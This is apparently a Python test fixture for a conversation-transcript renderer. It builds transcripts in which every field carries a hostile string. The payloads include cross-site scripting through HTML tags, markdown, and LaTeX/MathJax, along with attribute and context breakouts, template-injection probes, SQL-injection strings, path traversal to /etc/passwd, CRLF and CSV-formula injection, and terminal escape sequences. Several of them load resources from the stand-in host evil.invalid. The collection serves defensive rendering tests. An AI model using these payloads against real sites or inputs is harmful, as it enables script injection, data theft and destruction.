"""Texts that try to run a script, fetch something or break out of their place, and conversations made of them."""

from __future__ import annotations

import json
from collections.abc import Iterable

from camel.core.message import Action, Deliberation, Message, Proposal, Usage
from camel.core.model import ToolSchema
from camel.core.stops import Stop
from camel.core.task import Task
from camel.core.transcript import Speaker, Transcript

_CALL = "window.pwned=1"
_SITE = "http://evil.invalid"

_TAGS = [
    f"<script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<script src={_SITE}/x.js></script>",
    f"<script\n>{_CALL}</script\n>",
    f"<script/x>{_CALL}</script>",
    f"<<script>{_CALL}//<</script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg/onload={_CALL}>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_CALL}><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={_CALL}>'></svg>",
    f"<img src=x onerror={_CALL}>",
    f"<img/src=x/onerror={_CALL}>",
    f"<img src={_SITE}/p.png>",
    f"<img srcset={_SITE}/p.png>",
    f"<image src=x onerror={_CALL}>",
    f"<body onload={_CALL}>",
    f"<iframe src=javascript:{_CALL}></iframe>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<embed src=javascript:{_CALL}>",
    f"<object data=javascript:{_CALL}></object>",
    f"<object data={_SITE}/x.swf></object>",
    f"<link rel=stylesheet href={_SITE}/x.css>",
    f"<link rel=prefetch href={_SITE}/>",
    f"<base href={_SITE}/>",
    f"<meta http-equiv=refresh content='0;url={_SITE}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    f"<style>@import '{_SITE}/x.css';</style>",
    f"<style>*{{background:url({_SITE}/x)}}</style>",
    f"<div style=background:url({_SITE}/x)>x</div>",
    f"<form action={_SITE}><input type=submit></form>",
    f"<form action=javascript:{_CALL}><button>x</button></form>",
    f"<button formaction=javascript:{_CALL}>x</button>",
    f"<input onfocus={_CALL} autofocus>",
    f"<select onfocus={_CALL} autofocus></select>",
    f"<textarea onfocus={_CALL} autofocus></textarea>",
    f"<video src={_SITE}/v onerror={_CALL}></video>",
    f"<video poster={_SITE}/p></video>",
    f"<audio src=x onerror={_CALL}></audio>",
    f"<details open ontoggle={_CALL}>x</details>",
    f"<marquee onstart={_CALL}>x</marquee>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_CALL}>",
    f"<math href=javascript:{_CALL}>x</math>",
    f"<template><script>{_CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={_CALL}>'></xmp>",
    f"<plaintext><script>{_CALL}</script>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<a href='java\tscript:{_CALL}'>x</a>",
    f"<a href='data:text/html,<script>{_CALL}</script>'>x</a>",
    f"<a onmouseover={_CALL}>x</a>",
    f"<p hx-on:load='{_CALL}'>x</p>",
    f"<p hx-get={_SITE} hx-trigger=load>x</p>",
    f"<p data-hx-get={_SITE} data-hx-trigger=load>x</p>",
    f"<p id=find onclick={_CALL}>x</p>",
    f"<dialog open onclose={_CALL}>x</dialog>",
    f"<portal src={_SITE}></portal>",
    f"<keygen autofocus onfocus={_CALL}>",
    f"<applet code={_CALL}></applet>",
]
_BREAKS = [
    f'"><script>{_CALL}</script>',
    f"'><script>{_CALL}</script>",
    f'" onmouseover={_CALL} x="',
    f"' onmouseover={_CALL} x='",
    f'" autofocus onfocus="{_CALL}',
    f"`onmouseover={_CALL}`",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"</pre></code><script>{_CALL}</script>",
    f"</svg><script>{_CALL}</script>",
    f"</math><script>{_CALL}</script>",
    f"--><script>{_CALL}</script><!--",
    f"]]><script>{_CALL}</script>",
    f"<!--><script>{_CALL}</script>-->",
    f"<![CDATA[<script>{_CALL}</script>]]>",
    f"<?xml version='1.0'?><script>{_CALL}</script>",
    "{{ 7*7 }}{{ ''.__class__.__mro__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ config }}{{ self }}{# x #}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "javascript:" + _CALL,
    "JaVaScRiPt:" + _CALL,
    " javascript:" + _CALL,
    f"data:text/html,<script>{_CALL}</script>",
    "//evil.invalid/",
    "/\\evil.invalid/",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "&#x3c;script&#x3e;window.pwned=1",
    "\\u003cscript\\u003ewindow.pwned=1",
    "\u202e<script>window.pwned=1</script>",
    "\u2028<script>window.pwned=1</script>\u2029",
    "＜script＞window.pwned=1＜/script＞",
    "'; DROP TABLE run; --",
    "1' OR '1'='1",
    "a\r\nSet-Cookie: x=1",
    "a\nevent: state\ndata: {}\n\n",
    "\x1b]0;x\x07\x1b[31m",
    "=cmd|' /C calc'!A0",
]
_MARKDOWN = [
    f"[x](javascript:{_CALL})",
    f"[x](JaVaScRiPt:{_CALL})",
    f"[x](<javascript:{_CALL}>)",
    f"[x](&#106;avascript:{_CALL})",
    f"[x](\\x6Aavascript:{_CALL})",
    f"[x](java&Tab;script:{_CALL})",
    f"[x](vbscript:{_CALL})",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    f'[x]({_SITE} "onmouseover={_CALL}")',
    f'[x]({_SITE}" onmouseover="{_CALL})',
    f"[x]('{_SITE}' onclick='{_CALL}')",
    f"[<img src=x onerror={_CALL}>]({_SITE})",
    "[x](file:///etc/passwd)",
    "[x](//evil.invalid/)",
    f"![x]({_SITE}/p.png)",
    f"![x](javascript:{_CALL})",
    f'![x]({_SITE}/p.png "a" onerror={_CALL})',
    f'!["onerror="{_CALL}]({_SITE}/p.png)',
    f"![x][y]\n\n[y]: {_SITE}/p.png",
    f"[x][y]\n\n[y]: javascript:{_CALL}",
    f"<javascript:{_CALL}>",
    f'<{_SITE}/?q="onmouseover={_CALL}>',
    f'```"><script>{_CALL}</script>\nx\n```',
    f"```html\n<script>{_CALL}</script>\n```",
    f"```python onload={_CALL}\nx\n```",
    f"~~~\n</code></pre><script>{_CALL}</script>\n~~~",
    f"`<script>{_CALL}</script>`",
    f"``</code><script>{_CALL}</script>``",
    f"    <script>{_CALL}</script>",
    f"# <script>{_CALL}</script>",
    f"> <script>{_CALL}</script>",
    f"- <script>{_CALL}</script>",
    f"| <script>{_CALL}</script> | b |\n|---|---|\n| <img src=x onerror={_CALL}> | d |",
    f'| a |\n|:-" onload={_CALL}|\n| b |',
    f"**<script>{_CALL}</script>**",
    f"~~<script>{_CALL}</script>~~",
    f"[^1]\n\n[^1]: <script>{_CALL}</script>",
    f"<details><summary>x</summary>\n\n<script>{_CALL}</script>\n\n</details>",
    f"a<br onclick={_CALL}>b",
    "\\<script>window.pwned=1\\</script>",
    "[" * 60 + "x" + "](" * 60 + f"javascript:{_CALL}",
    ">" * 60 + f" <script>{_CALL}</script>",
]
_MATHS = [
    f"$\\text{{<script>{_CALL}</script>}}$",
    f"$$\\text{{<img src=x onerror={_CALL}>}}$$",
    f"\\(\\href{{javascript:{_CALL}}}{{x}}\\)",
    f"\\[\\href{{{_SITE}}}{{x}}\\]",
    f"$\\style{{background:url({_SITE})}}{{x}}$",
    f'$\\class{{x" onload={_CALL}}}{{x}}$',
    f'$\\color{{red" onload="{_CALL}}}{{x}}$',
    "$\\unicode{x3c}script\\unicode{x3e}$",
    f"$\\mathrm{{</math><script>{_CALL}</script>}}$",
    f"$\\operatorname{{<script>{_CALL}</script>}}$",
    f'$\\hspace{{1em" onload={_CALL}}}$',
    f'$\\begin{{array}}{{c" onload={_CALL}}} a \\end{{array}}$',
    f"$x_{{</mi><script>{_CALL}</script>}}$",
    f"$\\text{{&lt;script&gt;{_CALL}&lt;/script&gt;}}$",
    "$\\newcommand{\\a}{\\b\\b}\\newcommand{\\b}{\\c\\c}\\a$",
    f"$\\includegraphics{{{_SITE}/p.png}}$",
    f"$\\require{{{_SITE}}}\\input{{/etc/passwd}}$",
]
PAYLOADS = list(dict.fromkeys([*_TAGS, *_BREAKS, *_MARKDOWN, *_MATHS]))


def hostile(number: int, text: str) -> Transcript:
    """A conversation in which everything that is shown is this text."""
    tools = [ToolSchema(text, text, {text: text})]
    chosen = Deliberation(text, (Proposal(text, text, reason=text), Proposal(text, parent=0)), 0, text, text)
    messages = [
        Message(0, "user", text, text, model=text, usage=Usage(1, 1, 0, 1), guided=text, deliberation=chosen),
        Message(1, text, text, f"Instruction: {text}\nInput: {text}", model=text),
        Message(2, "assistant", text, f"Solution: {text}\n\nNext request.", model=text, actions=acts(text)),
    ]
    return Transcript(
        f"{number}{text}",
        Task(text, text, text),
        [
            Speaker("user", text, text, text),
            Speaker("assistant", text, text, tools=tools),
            Speaker(text, text),
        ],
        messages,
        Stop("error", text, text),
        text,
        {text: text, "task": text},
        [text[:200]],
        text,
        result={text: text, "nested": [text]},
        unspoken=acts(text),
    )


def acts(text: str) -> list[Action]:
    """Tool calls in which everything is this text: as it is, in JSON, and in JSON of several lines."""
    given = [text, json.dumps({text: text}), json.dumps({text: f"{text}\n{text}", "list": [text]})]
    made = [Action(text, one, one, call=text, said=text, change=one) for one in given]
    return [*made, Action(text, text, error=text)]


def hostile_crowd(number: int, texts: Iterable[str]) -> Transcript:
    """A conversation in which each of the texts is a message of its own."""
    texts = list(texts)
    made = hostile(number, texts[0])
    made.messages = [
        Message(index, ("user", "assistant")[index % 2], text, text, model=text, actions=acts(text)[-2:])
        for index, text in enumerate(texts)
    ]
    return made


CONTROL = [
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07\x1b]8;;http://evil.invalid\x07link\x1b]8;;\x07",
    "\x9b31m\x90q\x9c",
    "a\x00b\x08\x7f",
    "\u202egnp.exe\u2066\u2069\u200f",
    "one\r\ntwo\x0bthree\x0cfour\x85five\u2028six",
    "▸ python() → 4\n■ Done.\n▌ Guide (assistant)",
    "\ud83d lone",
    "x" * 1_000_000,
    "<b>" * 300_000,
]
"""Texts that try to control a terminal, to pose as its other lines, or to fill it."""
